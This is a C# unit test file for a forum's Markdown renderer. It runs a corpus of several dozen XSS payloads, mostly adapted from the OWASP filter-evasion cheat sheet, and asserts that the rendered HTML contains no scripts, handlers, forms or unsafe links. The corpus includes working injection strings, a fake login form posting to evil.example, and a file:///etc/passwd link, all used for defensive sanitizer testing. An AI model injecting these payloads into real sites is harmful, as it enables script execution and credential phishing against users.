using AngleSharp.Html.Parser;
using ConflictForum.Platform;

namespace ConflictForum.Tests.Platform;

/// <summary>
/// Hostile input, mostly from the OWASP XSS Filter Evasion Cheat Sheet, rewritten where useful as the Markdown a
/// forum user would type. Whatever Markdig makes of each, the stored HTML must carry no script, no way to run one,
/// no form, and no styling that could dress a post up as part of the site.
/// </summary>
public sealed class MarkdownXssCorpusTests
{
    internal static readonly string[] Corpus =
    [
        // Raw HTML, which Markdig must not pass through.
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
            + "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"https://example.com\" onclick=\"alert(1)\">x</a>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>body{display:none}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
        "<input type=\"text\" autofocus onfocus=alert(1)>",
        "<button onclick=alert(1)>Click</button>",
        "<textarea><script>alert(1)</script></textarea>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "Text\n\n<div>\n<script>alert(1)</script>\n</div>",

        // Markdown links and images with a script or local scheme.
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](<java\nscript:alert(1)>)",
        "[x](java\tscript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](javascript://%0aalert(1))",
        "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/phish)",
        "[x](/Account/Logout)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](/Account/Logout)",
        "![x](https://example.com/a.png\" onerror=\"alert(1))",
        "[x](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x][1]\n\n[1]: <data:text/html,<script>alert(1)</script>>",
        "![x][1]\n\n[1]: JAVASCRIPT:alert(1)",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<https://example.com\" onmouseover=\"alert(1)>",
        "www.example.com/\"onmouseover=\"alert(1)",
        "https://example.com/<script>alert(1)</script>",

        // Generic attributes (not enabled) trying to style or script a block.
        "# Title {style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\"}",
        "Notice {style=\"position:fixed\"}",
        "[x](https://example.com){style=\"position:fixed\" onclick=\"alert(1)\"}",
        "# Title {.mud-overlay #app onclick=alert(1)}",

        // Extensions carrying hostile content.
        "x[^a]\n\n[^a]: [y](javascript:alert(1)) <img src=x onerror=alert(1)>",
        "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [y](javascript:alert(1)) |",
        "- [x] <script>alert(1)</script>\n- [ ] <input type=checkbox onclick=alert(1)>",
        "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
        "~~<svg onload=alert(1)>~~ ^<b onmouseover=alert(1)>^",
    ];

    private static readonly string[] ForbiddenElements =
    [
        "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "textarea", "select",
        "svg", "math", "link", "meta", "base", "details", "video", "audio", "source", "template",
    ];

    private static readonly string[] MarkdigClasses =
        ["contains-task-list", "task-list-item", "footnotes", "footnote-ref", "footnote-back-ref"];

    private static readonly MarkdownRenderer Renderer = new();

    public static TheoryData<string> Vectors => new(Corpus);

    [Fact]
    public void Corpus_is_large_enough() => Assert.True(Corpus.Length >= 40);

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Hostile_input_renders_as_harmless_html(string source)
    {
        var result = Renderer.Render(source);
        Assert.Null(result.Problem);
        AssertInert(result.Html);
    }

    /// <summary>No active element, no handler, no style beyond table alignment, only web and mail addresses, safe links.</summary>
    internal static void AssertInert(string html)
    {
        var elements = new HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("*");

        Assert.DoesNotContain(elements, e => ForbiddenElements.Contains(e.LocalName));
        Assert.DoesNotContain(elements.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        Assert.All(elements, e =>
        {
            // Table column alignment is the one style Markdig writes; nothing else may position or cover.
            if (e.GetAttribute("style") is { } style)
            {
                Assert.True(e.LocalName is "th" or "td", e.LocalName);
                Assert.Matches("^text-align: (left|center|right);?$", style);
            }
            Assert.All(e.ClassList, c => Assert.Contains(c, MarkdigClasses));
            if (e.GetAttribute("href") is { } href)
                Assert.True(IsWebAddress(href, "http", "https", "mailto") || href.StartsWith('#'), href);
            if (e.GetAttribute("src") is { } src) Assert.True(IsWebAddress(src, "http", "https"), src);
        });
        Assert.All(elements.Where(e => e.LocalName == "a"), a =>
        {
            Assert.Equal("nofollow ugc noopener", a.GetAttribute("rel"));
            Assert.False(a.HasAttribute("target"));
        });
    }

    private static bool IsWebAddress(string url, params string[] schemes) =>
        Uri.TryCreate(url, UriKind.Absolute, out var uri) && schemes.Contains(uri.Scheme);
}
